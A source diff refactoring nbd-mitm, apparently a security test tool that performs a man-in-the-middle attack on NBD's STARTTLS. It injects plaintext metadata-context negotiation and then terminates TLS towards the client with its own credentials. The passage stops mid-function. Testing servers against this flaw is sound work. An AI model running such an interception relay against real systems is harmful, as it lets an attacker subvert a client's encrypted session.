@@ -1,5 +1,7 @@
 /* nbd-mitm: a man in the middle between an NBD client and a
- * SELECTIVETLS server, for the scenario in shared/seed/.
+ * SELECTIVETLS server, for the three-party attack on metadata contexts
+ * across STARTTLS (the spec's "TLS support" section: a server MUST
+ * forget the negotiation state of the plaintext phase).
  * Copyright (C) 2026 the tlsguard authors.  BSD-3-Clause, see COPYING.
  *
  * For each client it accepts, nbd-mitm connects to the upstream server
@@ -37,13 +39,14 @@
 #include <stdlib.h>
 #include <string.h>
 #include <errno.h>
-#include <getopt.h>
 #include <poll.h>
 #include <unistd.h>
 
-#include "wire.h"
-#include "transport.h"
+#include "cli.h"
+#include "error.h"
 #include "listener.h"
+#include "transport.h"
+#include "wire.h"
 
 #define NEGOTIATE_TIMEOUT  60000        /* ms, per read while negotiating */
 #define HANDSHAKE_TIMEOUT  30000        /* ms */
@@ -69,7 +72,7 @@ struct inflight {
   uint32_t length;
 };
 
-struct session {
+struct relay {
   const struct mitm *m;
   struct tport *cl, *up;
   struct wire_buf out;
@@ -82,56 +85,19 @@ struct session {
   size_t nreads, capreads;
 };
 
-static void __attribute__((noreturn))
-usage (FILE *fp, int status)
-{
-  fprintf (fp,
-"usage: nbd-mitm (--listen-unix PATH | --listen-tcp HOST:PORT)\n"
-"                (--upstream-unix PATH | --upstream-tcp HOST:PORT)\n"
-"                (--tls-psk FILE [--tls-username NAME] | --tls-certs DIR)\n"
-"                [--inject-export NAME] [--inject-context QUERY]...\n"
-"                [--pidfile FILE] [--once] [-v]\n"
-"\n"
-"A man in the middle for the NBD STARTTLS metadata-context attack.  When\n"
-"the client sends NBD_OPT_STARTTLS, nbd-mitm sends the server\n"
-"NBD_OPT_STRUCTURED_REPLY and NBD_OPT_SET_META_CONTEXT in plaintext,\n"
-"upgrades the server connection, then terminates TLS towards the client\n"
-"with its own credentials.  It answers the client's SET_META_CONTEXT\n"
-"itself with the server's ids for the injected contexts, and relays\n"
-"everything else.\n"
-"\n"
-"  --listen-unix PATH, --listen-tcp HOST:PORT   accept clients here\n"
-"                        (TCP: loopback only)\n"
-"  --upstream-unix PATH, --upstream-tcp HOST:PORT   the real server\n"
-"  --tls-psk FILE        PSK file: any user towards the client, the\n"
-"                        --tls-username user (default qemu) upstream\n"
-"  --tls-certs DIR       ca-cert.pem, server-cert.pem/server-key.pem\n"
-"                        towards the client, client-cert.pem/client-key.pem\n"
-"                        upstream\n"
-"  --inject-export NAME  export named in the injected SET_META_CONTEXT\n"
-"                        (default \"\", the default export)\n"
-"  --inject-context QUERY  query to inject (repeatable; default\n"
-"                        base:allocation)\n"
-"  --pidfile FILE        write the PID here once listening\n"
-"  --once                handle one client in-process, then exit\n"
-"  -v, --verbose         log every step to stderr\n"
-"  --help                this text\n");
-  exit (status);
-}
-
 /* --- I/O helpers --------------------------------------------------- */
 
 static const char *
-side_name (const struct session *s, const struct tport *t)
+side_name (const struct relay *rl, const struct tport *t)
 {
-  return t == s->cl ? "client" : "server";
+  return t == rl->cl ? "client" : "server";
 }
 
 /* Read exactly len bytes.  Returns 1, 0 on a clean EOF before the
  * first byte (only if eof_ok), or -1 (logged).
  */
 static int
-xread (struct session *s, struct tport *t, void *buf, size_t len,
+xread (struct relay *rl, struct tport *t, void *buf, size_t len,
        int timeout_ms, bool eof_ok)
 {
   ssize_t r;
@@ -140,81 +106,75 @@ xread (struct session *s, struct tport *t, void *buf, size_t len,
     return 1;
   r = tport_read (t, buf, len, timeout_ms);
   if (r == -1) {
-    log_msg ("reading from the %s: %s", side_name (s, t), tport_error (t));
+    log_msg ("reading from the %s: %s", side_name (rl, t), tport_error (t));
     return -1;
   }
   if (r == 0 && eof_ok) {
-    log_debug ("the %s closed the connection", side_name (s, t));
+    log_debug ("the %s closed the connection", side_name (rl, t));
     return 0;
   }
   if ((size_t) r < len) {
     log_msg ("the %s closed the connection in the middle of a message",
-             side_name (s, t));
+             side_name (rl, t));
     return -1;
   }
   return 1;
 }
 
 static int
-xwrite (struct session *s, struct tport *t, const void *buf, size_t len)
+xwrite (struct relay *rl, struct tport *t, const void *buf, size_t len)
 {
   if (tport_write (t, buf, len) == -1) {
-    log_msg ("writing to the %s: %s", side_name (s, t), tport_error (t));
+    log_msg ("writing to the %s: %s", side_name (rl, t), tport_error (t));
     return -1;
   }
   return 0;
 }
 
-/* Send and empty s->out. */
+/* Send and empty rl->out.  What goes into it is not checked: the
+ * encoders fail only for lengths past 4 GiB (WIRE_ETOOBIG), and every
+ * name here comes from the command line or is bounded by
+ * WIRE_MAX_STRING.
+ */
 static int
-flush_to (struct session *s, struct tport *t)
+flush_to (struct relay *rl, struct tport *t)
 {
   int r = 0;
 
-  if (s->out.len)
-    r = xwrite (s, t, s->out.data, s->out.len);
-  wire_buf_reset (&s->out);
+  if (rl->out.len)
+    r = xwrite (rl, t, rl->out.data, rl->out.len);
+  wire_buf_reset (&rl->out);
   return r;
 }
 
 /* Copy len bytes from one side to the other in pieces. */
 static int
-copy_bytes (struct session *s, struct tport *from, struct tport *to,
+copy_bytes (struct relay *rl, struct tport *from, struct tport *to,
             uint64_t len)
 {
   uint8_t buf[65536];
 
   while (len > 0) {
     size_t n = len > sizeof buf ? sizeof buf : len;
-    if (xread (s, from, buf, n, MESSAGE_TIMEOUT, false) != 1 ||
-        xwrite (s, to, buf, n) == -1)
+    if (xread (rl, from, buf, n, MESSAGE_TIMEOUT, false) != 1 ||
+        xwrite (rl, to, buf, n) == -1)
       return -1;
     len -= n;
   }
   return 0;
 }
 
-static int
-enc_check (int r)
-{
-  if (r != WIRE_OK) {
-    log_msg ("encoding: %s", wire_status_name (r));
-    return -1;
-  }
-  return 0;
-}
-
 /* Read one option reply from the server into hdr/payload (payload is
- * malloc'd, caller frees).  Returns 0 or -1.
+ * allocated, caller frees).  Returns 0 or -1.
  */
 static int
-read_opt_reply (struct session *s, struct wire_opt_reply *rep,
+read_opt_reply (struct relay *rl, struct wire_opt_reply *rep,
                 uint8_t hdr[WIRE_OPT_REP_HDR_LEN], uint8_t **payload)
 {
   int r;
 
   *payload = NULL;
-  if (xread (s, s->up, hdr, WIRE_OPT_REP_HDR_LEN, NEGOTIATE_TIMEOUT,
+  if (xread (rl, rl->up, hdr, WIRE_OPT_REP_HDR_LEN, NEGOTIATE_TIMEOUT,
              false) != 1)
     return -1;
   r = wire_dec_opt_reply_hdr (hdr, WIRE_OPT_REP_HDR_LEN, rep, MAX_OPT_REPLY);
@@ -222,12 +182,8 @@ read_opt_reply (struct session *s, struct wire_opt_reply *rep,
     log_msg ("bad option reply from the server: %s", wire_status_name (r));
     return -1;
   }
-  *payload = malloc (rep->len ? rep->len : 1);
-  if (*payload == NULL) {
-    log_msg ("out of memory");
-    return -1;
-  }
-  if (xread (s, s->up, *payload, rep->len, NEGOTIATE_TIMEOUT, false) != 1) {
+  *payload = xmalloc (rep->len);
+  if (xread (rl, rl->up, *payload, rep->len, NEGOTIATE_TIMEOUT, false) != 1) {
     free (*payload);
     *payload = NULL;
     return -1;
@@ -243,162 +199,173 @@ is_final (uint32_t type)
 
 /* Send one option of our own to the server. */
 static int
-send_option (struct session *s, uint32_t opt, const void *data, uint32_t len)
+send_option (struct relay *rl, uint32_t opt, const void *data, uint32_t len)
 {
   log_debug ("mitm -> server: %s (%" PRIu32 " bytes)%s", wire_opt_name (opt),
-             len, tport_is_tls (s->up) ? " over TLS" : " in plaintext");
-  if (enc_check (wire_enc_option (&s->out, opt, data, len)) == -1)
-    return -1;
-  return flush_to (s, s->up);
+             len, tport_is_tls (rl->up) ? " over TLS" : " in plaintext");
+  wire_enc_option (&rl->out, opt, data, len);
+  return flush_to (rl, rl->up);
 }
 
 /* --- the injection (step 2) ---------------------------------------- */
 
-/* Returns 1 if the server connection is now TLS, 0 if the server
- * refused STARTTLS (its error reply is in *refusal_type), -1 on error.
+/* Upgrade one side's connection: the mitm is the server towards the
+ * client and the client towards the server.
  */
 static int
-inject (struct session *s, uint32_t *refusal_type)
+upgrade (struct relay *rl, struct tport *t)
 {
-  const struct mitm *m = s->m;
+  bool to_client = t == rl->cl;
+
+  if (tport_starttls (t, to_client ? rl->m->server_creds
+                      : rl->m->client_creds,
+                      to_client ? TPORT_SERVER : TPORT_CLIENT,
+                      HANDSHAKE_TIMEOUT) == -1) {
+    log_msg ("TLS handshake with the %s failed: %s", side_name (rl, t),
+             tport_error (t));
+    return -1;
+  }
+  log_debug ("TLS established with the %s", side_name (rl, t));
+  return 0;
+}
+
+/* Send the server an option without payload and read its replies up
+ * to the final one.  Returns that one's type, or 0 on error.
+ */
+static uint32_t
+server_option (struct relay *rl, uint32_t opt)
+{
+  struct wire_opt_reply rep;
+  uint8_t hdr[WIRE_OPT_REP_HDR_LEN];
+  uint8_t *payload;
+
+  if (send_option (rl, opt, NULL, 0) == -1)
+    return 0;
+  do {
+    if (read_opt_reply (rl, &rep, hdr, &payload) == -1)
+      return 0;
+    free (payload);
+    log_debug ("server -> mitm: %s", wire_rep_name (rep.type));
+  } while (!is_final (rep.type));
+  return rep.type;
+}
+
+/* NBD_OPT_SET_META_CONTEXT for the injected export and contexts,
+ * keeping the ids the server gives.
+ */
+static int
+inject_meta (struct relay *rl)
+{
+  const struct mitm *m = rl->m;
   struct wire_opt_reply rep;
   uint8_t hdr[WIRE_OPT_REP_HDR_LEN];
   uint8_t *payload;
   size_t i;
 
-  /* NBD_OPT_STRUCTURED_REPLY, so that SET_META_CONTEXT is valid. */
-  if (send_option (s, NBD_OPT_STRUCTURED_REPLY, NULL, 0) == -1)
-    return -1;
-  do {
-    if (read_opt_reply (s, &rep, hdr, &payload) == -1)
-      return -1;
-    free (payload);
-    log_debug ("server -> mitm: %s", wire_rep_name (rep.type));
-  } while (!is_final (rep.type));
-  if (rep.type != NBD_REP_ACK)
-    log_msg ("the server refused NBD_OPT_STRUCTURED_REPLY in plaintext "
-             "(%s)", wire_rep_name (rep.type));
-
-  /* NBD_OPT_SET_META_CONTEXT for the injected export and contexts. */
   log_debug ("injecting SET_META_CONTEXT for export \"%s\"",
              m->inject_export);
-  if (enc_check (wire_enc_opt_meta (&s->out, NBD_OPT_SET_META_CONTEXT,
-                                    m->inject_export, m->inject_ctx,
-                                    m->ninject_ctx)) == -1 ||
-      flush_to (s, s->up) == -1)
+  wire_enc_opt_meta (&rl->out, NBD_OPT_SET_META_CONTEXT, m->inject_export,
+                     m->inject_ctx, m->ninject_ctx);
+  if (flush_to (rl, rl->up) == -1)
     return -1;
-  for (;;) {
-    if (read_opt_reply (s, &rep, hdr, &payload) == -1)
+  do {
+    struct wire_str name;
+    uint32_t id;
+
+    if (read_opt_reply (rl, &rep, hdr, &payload) == -1)
       return -1;
-    if (rep.type == NBD_REP_META_CONTEXT) {
-      struct wire_str name;
-      uint32_t id;
-      if (wire_dec_rep_meta_context (payload, rep.len, &id, &name)
-          != WIRE_OK) {
-        log_msg ("bad NBD_REP_META_CONTEXT from the server");
-        free (payload);
-        return -1;
-      }
-      if (s->nids < MAX_INJECT) {
-        char *n = malloc (name.len + 1);
-        if (n == NULL) {
-          free (payload);
-          log_msg ("out of memory");
-          return -1;
-        }
-        if (name.len)
-          memcpy (n, name.ptr, name.len);
-        n[name.len] = '\0';
-        s->ids[s->nids] = id;
-        s->names[s->nids] = n;
-        s->nids++;
-        log_debug ("server -> mitm: NBD_REP_META_CONTEXT id %" PRIu32
-                   " \"%s\"", id, n);
-      }
-    }
-    else
+    if (rep.type != NBD_REP_META_CONTEXT)
       log_debug ("server -> mitm: %s", wire_rep_name (rep.type));
+    else if (wire_dec_rep_meta_context (payload, rep.len, &id, &name)
+             != WIRE_OK) {
+      log_msg ("bad NBD_REP_META_CONTEXT from the server");
+      free (payload);
+      return -1;
+    }
+    else if (rl->nids < MAX_INJECT) {
+      rl->ids[rl->nids] = id;
+      rl->names[rl->nids] = wire_str_dup (&name);
+      log_debug ("server -> mitm: NBD_REP_META_CONTEXT id %" PRIu32
+                 " \"%s\"", id, rl->names[rl->nids]);
+      rl->nids++;
+    }
     free (payload);
-    if (is_final (rep.type))
-      break;
-  }
+  } while (!is_final (rep.type));
   if (rep.type != NBD_REP_ACK)
     log_msg ("the server refused the injected SET_META_CONTEXT in "
              "plaintext (%s)", wire_rep_name (rep.type));
   log_msg ("injected %zu context(s) for export \"%s\" in plaintext",
-           s->nids, m->inject_export);
-  for (i = 0; i < s->nids; ++i)
-    log_msg ("  injected context id %" PRIu32 " = %s", s->ids[i],
-             s->names[i]);
+           rl->nids, m->inject_export);
+  for (i = 0; i < rl->nids; ++i)
+    log_msg ("  injected context id %" PRIu32 " = %s", rl->ids[i],
+             rl->names[i]);
+  return 0;
+}
+
+/* Returns 1 if the server connection is now TLS, 0 if the server
+ * refused STARTTLS (its error reply is in *refusal_type), -1 on error.
+ */
+static int
+inject (struct relay *rl, uint32_t *refusal_type)
+{
+  uint32_t type;
+
+  /* NBD_OPT_STRUCTURED_REPLY, so that SET_META_CONTEXT is valid. */
+  type = server_option (rl, NBD_OPT_STRUCTURED_REPLY);
+  if (type == 0)
+    return -1;
+  if (type != NBD_REP_ACK)
+    log_msg ("the server refused NBD_OPT_STRUCTURED_REPLY in plaintext "
+             "(%s)", wire_rep_name (type));
+  if (inject_meta (rl) == -1)
+    return -1;
 
   /* NBD_OPT_STARTTLS upstream. */
-  if (send_option (s, NBD_OPT_STARTTLS, NULL, 0) == -1)
+  type = server_option (rl, NBD_OPT_STARTTLS);
+  if (type == 0)
     return -1;
-  do {
-    if (read_opt_reply (s, &rep, hdr, &payload) == -1)
-      return -1;
-    free (payload);
-    log_debug ("server -> mitm: %s", wire_rep_name (rep.type));
-  } while (!is_final (rep.type));
-  if (rep.type != NBD_REP_ACK) {
+  if (type != NBD_REP_ACK) {
     log_msg ("the server refused NBD_OPT_STARTTLS (%s)",
-             wire_rep_name (rep.type));
-    *refusal_type = rep.type;
+             wire_rep_name (type));
+    *refusal_type = type;
     return 0;
   }
-  if (tport_starttls (s->up, m->client_creds, TPORT_CLIENT,
-                      HANDSHAKE_TIMEOUT) == -1) {
-    log_msg ("TLS handshake with the server failed: %s",
-             tport_error (s->up));
-    return -1;
-  }
-  log_debug ("TLS established with the server");
-  return 1;
+  return upgrade (rl, rl->up) == -1 ? -1 : 1;
 }
 
 /* The client's STARTTLS. */
 static int
-client_starttls (struct session *s, uint32_t len)
+client_starttls (struct relay *rl, uint32_t len)
 {
   uint32_t refusal = 0;
   int r;
 
   if (len != 0) {
     log_msg ("the client sent a payload with STARTTLS; refusing it");
-    return enc_check (wire_enc_opt_reply (&s->out, NBD_OPT_STARTTLS,
-                                          NBD_REP_ERR_INVALID, NULL, 0))
-      ? -1 : flush_to (s, s->cl);
+    wire_enc_opt_reply (&rl->out, NBD_OPT_STARTTLS, NBD_REP_ERR_INVALID,
+                        NULL, 0);
+    return flush_to (rl, rl->cl);
   }
-  r = inject (s, &refusal);
+  r = inject (rl, &refusal);
   if (r == -1)
     return -1;
   if (r == 0) {
     /* Pass the server's refusal on; both sides stay in plaintext. */
-    if (enc_check (wire_enc_opt_reply (&s->out, NBD_OPT_STARTTLS, refusal,
-                                       NULL, 0)) == -1)
-      return -1;
-    return flush_to (s, s->cl);
+    wire_enc_opt_reply (&rl->out, NBD_OPT_STARTTLS, refusal, NULL, 0);
+    return flush_to (rl, rl->cl);
   }
-  s->injected = true;
+  rl->injected = true;
 
   log_debug ("mitm -> client: NBD_REP_ACK to STARTTLS");
-  if (enc_check (wire_enc_opt_reply (&s->out, NBD_OPT_STARTTLS, NBD_REP_ACK,
-                                     NULL, 0)) == -1 ||
-      flush_to (s, s->cl) == -1)
+  wire_enc_opt_reply (&rl->out, NBD_OPT_STARTTLS, NBD_REP_ACK, NULL, 0);
+  if (flush_to (rl, rl->cl) == -1)
     return -1;
-  if (tport_starttls (s->cl, s->m->server_creds, TPORT_SERVER,
-                      HANDSHAKE_TIMEOUT) == -1) {
-    log_msg ("TLS handshake with the client failed: %s",
-             tport_error (s->cl));
-    return -1;
-  }
-  log_debug ("TLS established with the client");
-  return 0;
+  return upgrade (rl, rl->cl);
 }
 
 /* The client's SET_META_CONTEXT after the injection (step 3). */
 static int
-client_set_meta (struct session *s, const uint8_t *payload, uint32_t len)
+client_set_meta (struct relay *rl, const uint8_t *payload, uint32_t len)
 {
   struct wire_meta_req mr;
   size_t i;
@@ -408,17 +375,16 @@ client_set_meta (struct session *s, const uint8_t *payload, uint32_t len)
   if (r != WIRE_OK) {
     log_msg ("malformed SET_META_CONTEXT from the client (%s)",
              wire_status_name (r));
-    if (enc_check (wire_enc_opt_reply (&s->out, NBD_OPT_SET_META_CONTEXT,
-                                       NBD_REP_ERR_INVALID, NULL, 0)))
-      return -1;
-    return flush_to (s, s->cl);
+    wire_enc_opt_reply (&rl->out, NBD_OPT_SET_META_CONTEXT,
+                        NBD_REP_ERR_INVALID, NULL, 0);
+    return flush_to (rl, rl->cl);
   }
   log_msg ("answering the client's SET_META_CONTEXT (export \"%.*s\", "
            "%" PRIu32 " queries) with the server's plaintext ids",
            (int) mr.exportname.len,
            mr.exportname.ptr ? mr.exportname.ptr : "", mr.nq);
   if (mr.nq > 0)
-    for (i = 0; i < s->nids; ++i) {
+    for (i = 0; i < rl->nids; ++i) {
       struct wire_str *q = i < mr.nq ? &mr.queries[i] : NULL;
       char name[WIRE_MAX_STRING + 1];
 
@@ -428,37 +394,34 @@ client_set_meta (struct session *s, const uint8_t *payload, uint32_t len)
         name[q->len] = '\0';
       }
       else
-        snprintf (name, sizeof name, "%s", s->names[i]);
+        snprintf (name, sizeof name, "%s", rl->names[i]);
       log_msg ("  mitm -> client: NBD_REP_META_CONTEXT id %" PRIu32
-               " \"%s\" (really %s)", s->ids[i], name, s->names[i]);
-      if (enc_check (wire_enc_rep_meta_context (&s->out,
-                                                NBD_OPT_SET_META_CONTEXT,
-                                                s->ids[i], name)))
-        return -1;
+               " \"%s\" (really %s)", rl->ids[i], name, rl->names[i]);
+      wire_enc_rep_meta_context (&rl->out, NBD_OPT_SET_META_CONTEXT,
+                                 rl->ids[i], name);
     }
-  if (enc_check (wire_enc_opt_reply (&s->out, NBD_OPT_SET_META_CONTEXT,
-                                     NBD_REP_ACK, NULL, 0)))
-    return -1;
-  return flush_to (s, s->cl);
+  wire_enc_opt_reply (&rl->out, NBD_OPT_SET_META_CONTEXT, NBD_REP_ACK,
+                      NULL, 0);
+  return flush_to (rl, rl->cl);
 }
 
 /* Relay the server's replies to a forwarded option up to the final
  * one.  Returns that reply's type, or 0 on error.
  */
 static uint32_t
-relay_replies (struct session *s, uint32_t opt)
+relay_replies (struct relay *rl, uint32_t opt)
 {
   struct wire_opt_reply rep;
   uint8_t hdr[WIRE_OPT_REP_HDR_LEN];
   uint8_t *payload;
 
   do {
-    if (read_opt_reply (s, &rep, hdr, &payload) == -1)
+    if (read_opt_reply (rl, &rep, hdr, &payload) == -1)
       return 0;
     log_debug ("server -> client: %s (%" PRIu32 " bytes)",
                wire_rep_name (rep.type), rep.len);
-    if (xwrite (s, s->cl, hdr, sizeof hdr) == -1 ||
-        xwrite (s, s->cl, payload, rep.len) == -1) {
+    if (xwrite (rl, rl->cl, hdr, sizeof hdr) == -1 ||
+        xwrite (rl, rl->cl, payload, rep.len) == -1) {
       free (payload);
       return 0;
     }
@@ -470,24 +433,18 @@ relay_replies (struct session *s, uint32_t opt)
 enum { NEG_CLOSE = -1, NEG_TRANSMIT = 1 };
 
 static int
-negotiate (struct session *s)
+negotiate (struct relay *rl)
 {
   uint8_t hdr[WIRE_OPT_REQ_HDR_LEN];
-  uint8_t *payload;
+  uint8_t *payload = xmalloc (WIRE_MAX_OPT_PAYLOAD);
   int ret = NEG_CLOSE;
-
-  payload = malloc (WIRE_MAX_OPT_PAYLOAD);
-  if (payload == NULL) {
-    log_msg ("out of memory");
-    return NEG_CLOSE;
-  }
 
   for (;;) {
     struct wire_opt_req req;
     uint32_t final;
     int r;
 
-    r = xread (s, s->cl, hdr, sizeof hdr, NEGOTIATE_TIMEOUT, true);
+    r = xread (rl, rl->cl, hdr, sizeof hdr, NEGOTIATE_TIMEOUT, true);
     if (r != 1)
       break;
     r = wire_dec_opt_req_hdr (hdr, sizeof hdr, &req, WIRE_MAX_OPT_PAYLOAD);
@@ -496,43 +453,43 @@ negotiate (struct session *s)
                wire_status_name (r));
       break;
     }
-    if (xread (s, s->cl, payload, req.len, NEGOTIATE_TIMEOUT, false) != 1)
+    if (xread (rl, rl->cl, payload, req.len, NEGOTIATE_TIMEOUT, false) != 1)
       break;
     log_debug ("client -> mitm: %s (%" PRIu32 " bytes)%s",
                wire_opt_name (req.opt), req.len,
-               tport_is_tls (s->cl) ? " over TLS" : " in plaintext");
+               tport_is_tls (rl->cl) ? " over TLS" : " in plaintext");
 
-    if (req.opt == NBD_OPT_STARTTLS && !tport_is_tls (s->cl)) {
-      if (client_starttls (s, req.len) == -1)
+    if (req.opt == NBD_OPT_STARTTLS && !tport_is_tls (rl->cl)) {
+      if (client_starttls (rl, req.len) == -1)
         break;
       continue;
     }
-    if (req.opt == NBD_OPT_SET_META_CONTEXT && s->injected) {
-      if (client_set_meta (s, payload, req.len) == -1)
+    if (req.opt == NBD_OPT_SET_META_CONTEXT && rl->injected) {
+      if (client_set_meta (rl, payload, req.len) == -1)
         break;
       continue;
     }
 
     /* Everything else goes to the server as it is. */
     log_debug ("client -> server: %s", wire_opt_name (req.opt));
-    if (xwrite (s, s->up, hdr, sizeof hdr) == -1 ||
-        xwrite (s, s->up, payload, req.len) == -1)
+    if (xwrite (rl, rl->up, hdr, sizeof hdr) == -1 ||
+        xwrite (rl, rl->up, payload, req.len) == -1)
       break;
 
     if (req.opt == NBD_OPT_EXPORT_NAME) {
       uint8_t rep[WIRE_EXPORT_NAME_REPLY_LEN + 124];
-      size_t n = WIRE_EXPORT_NAME_REPLY_LEN + (s->no_zeroes ? 0 : 124);
-      if (xread (s, s->up, rep, n, NEGOTIATE_TIMEOUT, false) != 1 ||
-          xwrite (s, s->cl, rep, n) == -1)
+      size_t n = WIRE_EXPORT_NAME_REPLY_LEN + (rl->no_zeroes ? 0 : 124);
+      if (xread (rl, rl->up, rep, n, NEGOTIATE_TIMEOUT, false) != 1 ||
+          xwrite (rl, rl->cl, rep, n) == -1)
         break;
       ret = NEG_TRANSMIT;
       break;
     }
     if (req.opt == NBD_OPT_ABORT) {
-      relay_replies (s, req.opt);
+      relay_replies (rl, req.opt);
       break;
     }
-    final = relay_replies (s, req.opt);
+    final = relay_replies (rl, req.opt);
     if (final == 0)
       break;
     if (req.opt == NBD_OPT_GO && final == NBD_REP_ACK) {
@@ -547,26 +504,21 @@ negotiate (struct session *s)
 /* --- transmission (step 4) ----------------------------------------- */
 
 static int
-reads_add (struct session *s, uint64_t cookie, uint32_t length)
+reads_add (struct relay *rl, uint64_t cookie, uint32_t length)
 {
-  if (s->nreads == s->capreads) {
-    size_t cap = s->capreads ? s->capreads * 2 : 64;
-    struct inflight *p;
+  if (rl->nreads == rl->capreads) {
+    size_t cap = rl->capreads ? rl->capreads * 2 : 64;
+
     if (cap > 65536) {
       log_msg ("too many reads in flight");
       return -1;
     }
-    p = realloc (s->reads, cap * sizeof *p);
-    if (p == NULL) {
-      log_msg ("out of memory");
-      return -1;
-    }
-    s->reads = p;
-    s->capreads = cap;
+    rl->reads = xrealloc (rl->reads, cap * sizeof *rl->reads);
+    rl->capreads = cap;
   }
-  s->reads[s->nreads].cookie = cookie;
-  s->reads[s->nreads].length = length;
-  s->nreads++;
+  rl->reads[rl->nreads].cookie = cookie;
+  rl->reads[rl->nreads].length = length;
+  rl->nreads++;
   return 0;
 }
 
@@ -574,14 +526,14 @@ reads_add (struct session *s, uint64_t cookie, uint32_t length)
  * cookie is not a READ in flight.
  */
 static int64_t
-reads_take (struct session *s, uint64_t cookie)
+reads_take (struct relay *rl, uint64_t cookie)
 {
   size_t i;
 
-  for (i = 0; i < s->nreads; ++i)
-    if (s->reads[i].cookie == cookie) {
-      uint32_t len = s->reads[i].length;
-      s->reads[i] = s->reads[--s->nreads];
+  for (i = 0; i < rl->nreads; ++i)
+    if (rl->reads[i].cookie == cookie) {
+      uint32_t len = rl->reads[i].length;
+      rl->reads[i] = rl->reads[--rl->nreads];
       return len;
     }
   return -1;
@@ -589,16 +541,16 @@ reads_take (struct session *s, uint64_t cookie)
 
 /* One request from the client.  Returns 1, 0 at EOF, -1 on error. */
 static int
-relay_request (struct session *s)
+relay_request (struct relay *rl)
 {
   uint8_t hdr[WIRE_REQUEST_LEN];
   struct wire_request rq;
   int r;
 
-  r = xread (s, s->cl, hdr, 4, -1, true);
+  r = xread (rl, rl->cl, hdr, 4, -1, true);
   if (r != 1)
     return r;
-  if (xread (s, s->cl, hdr + 4, sizeof hdr - 4, MESSAGE_TIMEOUT, false) != 1)
+  if (xread (rl, rl->cl, hdr + 4, sizeof hdr - 4, MESSAGE_TIMEOUT, false) != 1)
     return -1;
   r = wire_dec_request (hdr, sizeof hdr, &rq);
   if (r != WIRE_OK) {
@@ -608,16 +560,16 @@ relay_request (struct session *s)
   log_debug ("client -> server: %s cookie %" PRIu64 " offset %" PRIu64
              " length %" PRIu32, wire_cmd_name (rq.type), rq.cookie,
              rq.offset, rq.length);
-  if (rq.type == NBD_CMD_READ && reads_add (s, rq.cookie, rq.length) == -1)
+  if (rq.type == NBD_CMD_READ && reads_add (rl, rq.cookie, rq.length) == -1)
     return -1;
-  if (xwrite (s, s->up, hdr, sizeof hdr) == -1)
+  if (xwrite (rl, rl->up, hdr, sizeof hdr) == -1)
     return -1;
   if (rq.type == NBD_CMD_WRITE) {
     if (rq.length > MAX_DATA) {
       log_msg ("write of %" PRIu32 " bytes is too large", rq.length);
       return -1;
     }
-    if (copy_bytes (s, s->cl, s->up, rq.length) == -1)
+    if (copy_bytes (rl, rl->cl, rl->up, rq.length) == -1)
       return -1;
   }
   return 1;
@@ -652,19 +604,19 @@ log_chunk (const struct wire_reply *rp, const uint8_t *payload)
 
 /* One reply message (a simple reply or one chunk) from the server. */
 static int
-relay_reply (struct session *s)
+relay_reply (struct relay *rl)
 {
   uint8_t hdr[WIRE_CHUNK_HDR_LEN];
   struct wire_reply rp;
   size_t need = 4;
   int r;
 
-  r = xread (s, s->up, hdr, 4, -1, true);
+  r = xread (rl, rl->up, hdr, 4, -1, true);
   if (r != 1)
     return r;
   r = wire_dec_reply_hdr (hdr, 4, &rp, &need, MAX_DATA);
   if (r == WIRE_SHORT) {
-    if (xread (s, s->up, hdr + 4, need - 4, MESSAGE_TIMEOUT, false) != 1)
+    if (xread (rl, rl->up, hdr + 4, need - 4, MESSAGE_TIMEOUT, false) != 1)
       return -1;
     r = wire_dec_reply_hdr (hdr, need, &rp, &need, MAX_DATA);
   }
@@ -672,18 +624,18 @@ relay_reply (struct session *s)
     log_msg ("bad reply from the server (%s)", wire_status_name (r));
     return -1;
   }
-  if (xwrite (s, s->cl, hdr, need) == -1)
+  if (xwrite (rl, rl->cl, hdr, need) == -1)
     return -1;
 
   if (!rp.structured) {
-    int64_t rlen = reads_take (s, rp.cookie);
+    int64_t rlen = reads_take (rl, rp.cookie);
     log_debug ("server -> client: simple reply cookie %" PRIu64 " error %s",
                rp.cookie, rp.error ? wire_errno_name (rp.error) : "0");
     if (rp.error)
       log_msg ("server -> client: simple error reply %s",
                wire_errno_name (rp.error));
     if (rlen > 0 && rp.error == 0)
-      return copy_bytes (s, s->up, s->cl, rlen) == -1 ? -1 : 1;
+      return copy_bytes (rl, rl->up, rl->cl, rlen) == -1 ? -1 : 1;
     return 1;
   }
 
@@ -691,7 +643,7 @@ relay_reply (struct session *s)
              "length %" PRIu32, wire_chunk_name (rp.type), rp.cookie,
              rp.flags, rp.len);
   if (rp.flags & NBD_REPLY_FLAG_DONE)
-    reads_take (s, rp.cookie);
+    reads_take (rl, rp.cookie);
   if (rp.type == NBD_REPLY_TYPE_BLOCK_STATUS || (rp.type & (1u << 15))) {
     /* Small: read it whole so that it can be logged. */
     uint8_t *payload;
@@ -699,13 +651,9 @@ relay_reply (struct session *s)
       log_msg ("oversized chunk from the server");
       return -1;
     }
-    payload = malloc (rp.len ? rp.len : 1);
-    if (payload == NULL) {
-      log_msg ("out of memory");
-      return -1;
-    }
-    if (xread (s, s->up, payload, rp.len, MESSAGE_TIMEOUT, false) != 1 ||
-        xwrite (s, s->cl, payload, rp.len) == -1) {
+    payload = xmalloc (rp.len);
+    if (xread (rl, rl->up, payload, rp.len, MESSAGE_TIMEOUT, false) != 1 ||
+        xwrite (rl, rl->cl, payload, rp.len) == -1) {
       free (payload);
       return -1;
     }
@@ -713,25 +661,25 @@ relay_reply (struct session *s)
     free (payload);
     return 1;
   }
-  return copy_bytes (s, s->up, s->cl, rp.len) == -1 ? -1 : 1;
+  return copy_bytes (rl, rl->up, rl->cl, rp.len) == -1 ? -1 : 1;
 }
 
 static int
-transmit (struct session *s)
+transmit (struct relay *rl)
 {
   for (;;) {
     int a, b, r;
 
-    a = tport_wait_readable (s->cl, 0);
-    b = tport_wait_readable (s->up, 0);
+    a = tport_wait_readable (rl->cl, 0);
+    b = tport_wait_readable (rl->up, 0);
     if (a == -1 || b == -1) {
       log_msg ("poll: %m");
       return -1;
     }
     if (a == 0 && b == 0) {
       struct pollfd pfd[2] = {
-        { .fd = tport_fd (s->cl), .events = POLLIN },
-        { .fd = tport_fd (s->up), .events = POLLIN },
+        { .fd = tport_fd (rl->cl), .events = POLLIN },
+        { .fd = tport_fd (rl->up), .events = POLLIN },
       };
       if (poll (pfd, 2, -1) == -1 && errno != EINTR) {
         log_msg ("poll: %m");
@@ -740,12 +688,12 @@ transmit (struct session *s)
       continue;
     }
     if (a) {
-      r = relay_request (s);
